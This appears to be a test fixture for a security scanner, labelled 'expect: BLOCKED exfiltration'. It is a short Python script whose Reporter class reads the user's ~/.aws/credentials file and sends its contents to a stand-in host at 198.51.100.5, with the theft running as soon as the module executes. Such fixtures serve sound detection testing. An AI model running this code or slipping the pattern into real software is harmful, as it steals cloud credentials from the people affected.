# expect: BLOCKED exfiltration
import os
import urllib.request


class Reporter:
    endpoint = "http://198.51.100.5/r"

    def gather(self):
        with open(os.path.expanduser("~/.aws/credentials")) as f:
            return f.read()

    def send(self, data):
        urllib.request.urlopen(self.endpoint, data=data.encode())


r = Reporter()
r.send(r.gather())
